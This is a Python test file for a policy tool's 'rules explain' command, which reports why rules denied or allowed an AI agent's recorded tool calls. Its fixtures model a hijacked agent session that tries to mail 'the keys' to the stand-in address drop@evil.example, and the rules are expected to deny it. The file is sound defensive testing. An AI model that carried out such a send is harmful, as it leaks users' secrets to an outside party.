"""`stoplog rules explain`: which intent is meant, and what is shown of it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from streams.cli.terminal.screen import Screen
from streams.cli.views.explained_rules import Wanted, tell_judged
from streams.codec.history import parse_line
from streams.codec.jsonform import named_uuid as named
from streams.model.bundle_signature import publication_key
from streams.model.reasons import Reason
from streams.model.topics import BY_NAME, INTENT, RULESET, VERDICT
from streams.operations.catalog.files import read_catalog
from streams.operations.rules.explanation import THE_LOG, Judged, explain_from_log
from streams.operations.rules.publication import make_bundle
from streams.policy import (
    Connective,
    Effect,
    ExplainedPart,
    IntentExplanation,
    Mode,
    PolicyResult,
    RuleExplanation,
    RuleOutcome,
    load_bundle,
)
from streams.sdk.keys.root_key import load_root_key
from streams.wiring.clock import SystemClock
from streams.wiring.codecs import build_codec
from streams.wiring.logs import open_log
from streams.wiring.operators import open_operator
from streams.wiring.settings_loading import load_settings
from streams.wiring.trials import plan_trial
from tests.unit.cli.conftest import Stoplog, of_kind

HISTORIES = Path(__file__).parents[2] / "golden" / "try"
HISTORY = ("--history", str(HISTORIES / "hijacked.jsonl"), "--catalog", str(HISTORIES / "catalog.jsonl"))
RULES = str(HISTORIES / "rules")


def write_bundle(folder: Path, bundle: str) -> None:
    """A bundle with one rule, which is for no tool that there is."""
    (folder / "idle").mkdir(parents=True)
    (folder / "bundle.yaml").write_text(bundle)
    rule = '{id: IDLE-001, effect: permit, match: {tools: [none.at_all]}, when: "true", reason: idle}'
    (folder / "idle" / "idle.rules.yaml").write_text(f"apiVersion: rules/v1\npack: idle\nrules:\n  - {rule}\n")


def parts(condition: dict[str, Any]) -> dict[str, str]:
    """Texts and values of a condition and all its parts."""
    inner = [found for part in condition.get("parts", ()) for found in parts(part).items()]
    return {condition["text"]: condition["value"], **dict(inner)}


class TestHistory:
    def test_every_rule_says_what_it_says(self, stoplog: Stoplog) -> None:
        result = stoplog("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate")
        assert (result.status, result.err) == (0, "")
        (intent,) = of_kind(result, "intent")
        assert (intent["tool"], intent["session_id"], intent["place"]) == ("mail/send", "s-2", "line 5")
        (judgement,) = of_kind(result, "judgement")
        assert (judgement["effect"], judgement["reason"]) == ("DENY", "rule_denied")
        rules = {record["rule_id"]: record for record in of_kind(result, "rule")}
        assert rules["OFF-010"]["outcome"] == "true"
        assert rules["OFF-010"]["place"] == "office/office.rules.yaml:27:5"
        assert parts(rules["OFF-010"]["condition"])["session.tainted"] == "true"
        assert rules["OFF-030"]["outcome"] == "false"
        assert rules["OFF-030"]["condition"]["parts"] == [{"text": "args.body", "value": '"[redacted]"'}]
        assert (rules["OFF-001"]["outcome"], rules["OFF-001"]["condition"]) == ("not for this tool", None)
        (verdict,) = of_kind(result, "verdict")
        assert (verdict["outcome"], verdict["ruleset_digest"]) == ("DENY", judgement["ruleset_digest"])

    def test_what_is_sensitive_is_left_out_unless_asked_for(self, stoplog: Stoplog) -> None:
        asked = ("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate")
        for more in ((), ("--no-json",), ("--no-json", "-v")):
            assert "drop@evil" not in stoplog(*asked, *more).out
        assert "drop@evil.example" in stoplog(*asked, "--reveal", "--no-json").out

    def test_a_person_sees_what_decided(self, stoplog: Stoplog) -> None:
        asked = ("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate", "--no-json")
        shown = stoplog(*asked).out.splitlines()
        assert shown[0].startswith("mail/send by helper for bob, session s-2, line 5, 2025-11-25T09:00:03")
        assert shown[3].startswith("rules: DENY rule_denied: the session has read untrusted data")
        at = next(index for index, line in enumerate(shown) if line.startswith("TRUE OFF-010 deny: "))
        assert shown[at + 1 : at + 7] == [
            "office/office.rules.yaml:27:5",
            "└── all of = true",
            "    ├── session.tainted = true",
            '    └── !(args.to.substring(args.to.indexOf("@") + 1) in lists.office.own_domains) = true',
            '        ├── args.to.substring(args.to.indexOf("@") + 1) = "[redacted]"',
            '        └── lists.office.own_domains = ["example.com"]',
        ]
        assert shown[at + 8 : at + 12] == [
            "rules that matched as well, and weigh less",
            "OFF-003  permit: sending for a user who holds mail:send",
            "",
            "of the other rules, 1 did not match, 4 are for other tools",
        ]
        assert "not for this tool: OFF-001, OFF-002, OFF-020, OFF-040" in stoplog(*asked, "-v").out.splitlines()
        assert shown[-1].startswith("verdict: DENY rule_denied: ")
        assert len(stoplog(*asked, "-v").out) > len(stoplog(*asked).out)

    def test_a_negation_is_told_as_what_is_true(self, stoplog: Stoplog, home: Path) -> None:
        """An exception to an exception is no exception, and `!a = false` says that `a` is true."""
        write_bundle(home / "double", 'apiVersion: rules/v1\nbundle: double\nversion: "1"\n')
        negated = "!(tool.server_id == 'mail')"
        rules = (
            f'{{id: D-1, effect: permit, match: {{tools: ["*"]}}, when: "!({negated}) && !tool.read_only", reason: x}}',
            f'{{id: D-2, effect: deny, match: {{tools: ["*"]}}, when: "{negated}", reason: y}}',
        )
        text = "apiVersion: rules/v1\npack: idle\nrules:\n" + "".join(f"  - {rule}\n" for rule in rules)
        (home / "double" / "idle" / "idle.rules.yaml").write_text(text)
        lines = stoplog("rules", "explain", "double", *HISTORY, "--intent", "exfiltrate", "--no-json").out.splitlines()
        assert '    ├── tool.server_id == "mail" = true' in lines
        assert "    └── !tool.read_only = true" in lines
        assert 'D-2 deny tool.server_id == "mail" = true' in lines

    def test_what_a_rule_names_under_explain_is_shown_with_it(self, stoplog: Stoplog, home: Path) -> None:
        write_bundle(home / "named", 'apiVersion: rules/v1\nbundle: named\nversion: "1"\n')
        named = "{server: tool.server_id, to: args.to}"
        rules = (
            f'{{id: N-1, effect: deny, match: {{tools: ["*"]}}, when: "!tool.read_only", reason: x, explain: {named}}}',
            f'{{id: N-2, effect: deny, match: {{tools: ["*"]}}, when: "tool.read_only", reason: y, explain: {named}}}',
        )
        text = "apiVersion: rules/v1\npack: idle\nrules:\n" + "".join(f"  - {rule}\n" for rule in rules)
        (home / "named" / "idle" / "idle.rules.yaml").write_text(text)
        asked = ("rules", "explain", "named", *HISTORY, "--intent", "exfiltrate")
        lines = stoplog(*asked, "--no-json").out.splitlines()
        assert '├── server: "mail"' in lines
        assert '└── to: "[redacted]"' in lines
        told = {each["rule_id"]: each["explain"] for each in of_kind(stoplog(*asked), "rule")}
        assert told == {"N-1": {"server": '"mail"', "to": '"[redacted]"'}, "N-2": {}}

    def test_a_condition_too_long_to_be_shown_whole_is_cut(self) -> None:
        """The parts of the negation were not worked out any more."""
        cut = ExplainedPart("!session.tainted", "false", (), Connective.NOT)
        rule = RuleExplanation("D-1", "deny", Mode.ENFORCE, "x", "a:1:1", RuleOutcome.FALSE, None, lambda: cut)
        result = PolicyResult(Effect.ALLOW, Reason.PERMITTED, "x")
        judged = Judged(0, IntentExplanation("double", "1", "00", result, (rule,)))
        for whole in (False, True):
            screen = Screen(as_json=False)
            with screen.console.capture() as written:
                wanted = Wanted(frozenset(), whole, lacks_facts=False)
                tell_judged(screen, judged, wanted, before=None, is_one_of_many=False, is_as_recorded=False)
            assert "!session.tainted = false" in written.get() or "not = false" in written.get()

    def test_one_rule_only(self, stoplog: Stoplog) -> None:
        asked = ("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate", "--rule", "OFF-030")
        assert [record["rule_id"] for record in of_kind(stoplog(*asked), "rule")] == ["OFF-030"]
        assert "OFF-010" not in stoplog(*asked, "--no-json").out

    def test_a_rule_that_there_is_not_is_an_error(self, stoplog: Stoplog) -> None:
        result = stoplog("rules", "explain", RULES, *HISTORY, "--intent", "exfiltrate", "--rule", "OFF-03O")
        assert (result.status, result.out) == (1, "")
        assert "have no `OFF-03O`, but for example" in result.err
        assert "`OFF-030`" in result.err

    def test_by_line_and_by_the_beginning_of_the_id(self, stoplog: Stoplog) -> None:
        by_line = stoplog("rules", "explain", RULES, *HISTORY, "--line", "5")
        (intent,) = of_kind(by_line, "intent")
        by_id = stoplog("rules", "explain", RULES, *HISTORY, "--intent", intent["intent_id"][:6])
        assert by_id.out == by_line.out

    def test_by_default_the_historys_own_rules_or_the_starter_rules(self, stoplog: Stoplog) -> None:
        result = stoplog("rules", "explain", *HISTORY, "--intent", "exfiltrate")
        assert of_kind(result, "judgement")[0]["bundle"] == "starter"

    def test_it_must_be_told_which(self, stoplog: Stoplog) -> None:
        result = stoplog("rules", "explain", RULES, *HISTORY)
        assert result.status == 1
        assert "has 9 such intents; choose one with `--intent`" in result.err
        assert "mail/forward_all at 2025-11-25T09:00:04.000Z" in result.err
        unknown = stoplog("rules", "explain", *HISTORY, "--intent", "nobody").err
        assert "has no intent `nobody`; it has:\n" in unknown
        assert unknown.count(" at 2025-11-25T09:00:") == 9
        assert "has no intent in line 4" in stoplog("rules", "explain", *HISTORY, "--line", "4").err

    def test_an_intent_that_the_rules_never_saw(self, stoplog: Stoplog) -> None:
        result = stoplog("rules", "explain", RULES, *HISTORY, "--line", "6", "--no-json")
        assert result.status == 0
        assert "the rules were not evaluated: an earlier check decided" in result.out
        assert "verdict: DENY tool_not_approved" in result.out

    def test_an_intent_that_is_judged_twice(self, stoplog: Stoplog, home: Path) -> None:
        """Held for a person, then approved: the second time the facts have the approval."""
        (home / "rules" / "p").mkdir(parents=True)
        (home / "rules" / "bundle.yaml").write_text('apiVersion: rules/v1\nbundle: b\nversion: "1"\n')
        (home / "rules" / "p" / "p.rules.yaml").write_text(
            "apiVersion: rules/v1\npack: p\nrules:\n"
            '  - {id: P-1, effect: permit, match: {tools: ["*"]}, when: session.risk < 3, reason: calm}\n'
            "  - {id: A-1, effect: require_approval, match: {tools: [mail.send]}, when: has(args.to),"
            " approval: {group: leads}, reason: ask}\n"
        )
        lines = (HISTORIES / "hijacked.jsonl").read_text().splitlines()[1:]
        value = {
            "intent_id": "exfiltrate",
            "status": "APPROVED",
            "approver": {"iss": "https://issuer.example", "sub": "ann", "sub_profile": "USER"},
            "approver_groups": ["leads"],
            "args": {"to": "drop@evil.example", "body": "the keys"},
        }
        at = "2025-11-25T09:00:03.500Z"
        approved = {"record": "approval_decision", "key": "acme|s-2", "time_ms": at, "value": value}
        (home / "h.jsonl").write_text("\n".join([*lines[:4], json.dumps(approved)]) + "\n")
        result = stoplog(
            "rules", "explain", "rules", "--history", "h.jsonl", "--catalog", HISTORY[3], "--intent", "exfiltrate"
        )
        assert [record["effect"] for record in of_kind(result, "judgement")] == ["REQUIRE_APPROVAL", "ALLOW"]
        assert of_kind(result, "intent")[0]["times_judged"] == 2
        asked = ("rules", "explain", "rules", "--history", "h.jsonl", "--catalog", HISTORY[3], "--intent", "exfiltrate")
        for more, again in (((), "1 rule came out as above"), (("--verbose",), "2 rules came out as above")):
            told = stoplog(*asked, "--no-json", *more).out
            assert told.count("rules: ") == 2
            assert told.count("TRUE A-1 ") == told.count("TRUE P-1 ") == 1
            assert told.count(again) == 1


class TestLog:
    @pytest.fixture
    def deployed(self, stoplog: Stoplog, monkeypatch: pytest.MonkeyPatch) -> Stoplog:
        monkeypatch.setenv("STOPLOG_RULES__ALLOW_UNSIGNED", "true")
        monkeypatch.setenv("STOPLOG_CATALOG__ALLOW_UNSIGNED", "true")
        monkeypatch.setenv("STOPLOG_CATALOG__ALLOW_UNSIGNED", "true")
        for command in (
            ("topics", "apply"),
            ("keys", "new"),
            ("catalog", "publish", HISTORY[3]),
            ("rules", "publish", RULES),
        ):
            result = stoplog(*command)
            assert result.status == 0, result.err
        settings = load_settings()
        with open_operator(settings, "ann") as operator:
            now_ms = operator.clock.now_ms()
            (entry,) = [each for each in read_catalog(Path(HISTORY[3]), 0, "t", "") if each.name == "send"]
            act = {"iss": "https://issuer.example", "sub": "helper"}
            opened = {"type": "SESSION_ESTABLISHED", "sub": "bob", "act": act, "scopes": ["mail:send"]}
            tool = {"server_id": "mail", "name": "send", "definition_digest": entry.definition_digest.hex()}
            asked = {"sub": "bob", "act": act, "tool": tool, "args": {"to": "x@evil.example", "body": "b"}}
            values = (
                ("session_event", {**opened, "expires": now_ms + 10**7}),
                ("intent", {**asked, "intent_id": "first"}),
                ("intent", {**asked, "intent_id": "second"}),
            )
            for number, (kind, value) in enumerate(values):
                line = {"record": kind, "key": "default|s-9", "time_ms": now_ms, "value": value}
                made = parse_line(json.dumps(line), number + 1, "t", load_root_key(settings.key_path))
                operator.write(BY_NAME[made.topic], [(made.key, made.record, made.record.header)])
        return stoplog

    def test_an_intent_of_the_log(self, deployed: Stoplog) -> None:
        result = deployed("rules", "explain", "--intent", "second")
        assert (result.status, result.err) == (0, "")
        assert of_kind(result, "intent")[0]["place"].startswith("the embedded log")
        (judgement,) = of_kind(result, "judgement")
        assert (judgement["bundle"], judgement["effect"]) == ("golden", "ALLOW")
        assert of_kind(result, "recorded_verdict") == []
        rules = {record["rule_id"]: record for record in of_kind(result, "rule")}
        assert rules["OFF-003"]["outcome"] == "true"

    def test_attributes_are_those_of_the_time_of_the_call(
        self, deployed: Stoplog, home: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("STOPLOG_ATTRIBUTES__ALLOW_UNSIGNED", "true")
        write_bundle(home / "other", 'apiVersion: rules/v1\nbundle: other\nversion: "2"\n')
        rule = "  - {id: ENT-001, effect: permit, match: {tools: [mail.send]}, when: entities.to.ok, reason: known}\n"
        text = f"entities:\n  to: {{key: args.to, kind: recipient, fields: {{ok: bool}}}}\nrules:\n{rule}"
        (home / "other" / "idle" / "idle.rules.yaml").write_text(f"apiVersion: rules/v1\npack: idle\n{text}")

        def outcome(intent: str) -> str:
            (record,) = of_kind(deployed("rules", "explain", "other", "--intent", intent), "rule")
            return str(record["outcome"])

        assert outcome("second") == "error", "nothing is known of the recipient"
        assert deployed("attributes", "set", "recipient/x@evil.example", "ok:=true").status == 0
        assert outcome("second") == "error", "it became known after the call"
        settings = load_settings()
        with open_operator(settings, "ann") as operator:
            (intent,) = (found.record for found in operator.find(INTENT) if found.record.intent_id == named("second"))
            again = msgspec.structs.replace(intent, intent_id=named("third"))
            operator.write(INTENT, [(b"default|s-9", again, again.header)])
        assert outcome("third") == "true"

    def test_the_verdict_that_was_given_stands_beside_it(self, deployed: Stoplog, home: Path) -> None:
        settings = load_settings()
        clock, key = SystemClock(), load_root_key(settings.key_path)
        plan = plan_trial(settings, THE_LOG, key)
        with open_log(settings, create=False) as log:
            (verdict,) = explain_from_log(
                log, build_codec(settings), clock, plan, officers=settings.content.trusted(), intent="first"
            ).verdicts
        with open_operator(settings, "gate") as operator:
            operator.write(VERDICT, [(b"default|s-9", verdict, verdict.header)])
        (recorded,) = of_kind(deployed("rules", "explain", "--intent", "first"), "recorded_verdict")
        assert (recorded["outcome"], recorded["ruleset_digest"]) == ("ALLOW", (verdict.ruleset_digest or b"").hex())
        assert "under other rules" not in deployed("rules", "explain", "--intent", "first", "--no-json").out
        write_bundle(home / "other", 'apiVersion: rules/v1\nbundle: other\nversion: "2"\n')
        lines = deployed("rules", "explain", "other", "--intent", "first", "--no-json").out.splitlines()
        (shown,) = [line for line in lines if line.startswith("verdict on the log: ALLOW permitted: ")]
        assert f", under other rules: {recorded['ruleset_digest'][:12]}" in shown

    def test_rules_that_have_judged_nothing_are_checked_whole(self, deployed: Stoplog, home: Path) -> None:
        """A gate has rejected them, whatever of them is for the tool of the call."""
        (before,) = of_kind(deployed("rules", "explain", "--intent", "first"), "judgement")
        write_bundle(home / "broken", 'apiVersion: rules/v1\nbundle: broken\nversion: "2"\n')
        rules = home / "broken" / "idle" / "idle.rules.yaml"
        rules.write_text(rules.read_text().replace('when: "true"', "when: nothing.that_is_known"))
        settings = load_settings()
        with open_operator(settings, "ann") as operator:
            (intent,) = (found.record for found in operator.find(INTENT) if found.record.intent_id == named("second"))
            bundle = make_bundle(
                load_bundle(home / "broken"),
                header=operator.header(),
                name=settings.gate.bundle_name,
                version="2",
                serial=2,
                published_by="ann",
            )
            operator.write(RULESET, [(publication_key(bundle), bundle, bundle.header)])
            again = msgspec.structs.replace(intent, intent_id=named("third"))
            operator.write(INTENT, [(b"default|s-9", again, again.header)])
        result = deployed("rules", "explain", "--intent", "third")
        assert (result.status, result.err) == (0, "")
        (judgement,) = of_kind(result, "judgement")
        assert (judgement["bundle"], judgement["ruleset_digest"]) == ("golden", before["ruleset_digest"])
        assert judgement["effect"] == "ALLOW"

    def test_other_rules_than_those_that_were_published(self, deployed: Stoplog, home: Path) -> None:
        write_bundle(home / "other", 'apiVersion: rules/v1\nbundle: other\nversion: "2"\n')
        (judgement,) = of_kind(deployed("rules", "explain", "other", "--intent", "first"), "judgement")
        assert (judgement["bundle"], judgement["effect"], judgement["reason"]) == ("other", "DENY", "no_permit")

    def test_rules_that_are_refused_are_told_as_check_tells_them(self, deployed: Stoplog, home: Path) -> None:
        write_bundle(home / "bad", "apiVersion: rules/v1\nbundle: bad\n")
        checked = of_kind(deployed("rules", "check", "bad"), "finding")
        assert [finding["code"] for finding in checked] == ["missing_key"]
        for of in (("--intent", "first"), (*HISTORY, "--intent", "exfiltrate")):
            result = deployed("rules", "explain", "bad", *of)
            assert (result.status, result.records) == (1, checked)
            assert "bundle rejected" in result.err

    def test_what_is_missing(self, deployed: Stoplog) -> None:
        assert "has no intent `nobody`" in deployed("rules", "explain", "--intent", "nobody").err
        result = deployed("rules", "explain")
        assert result.status == 2
        assert "give an intent, or a history" in result.err
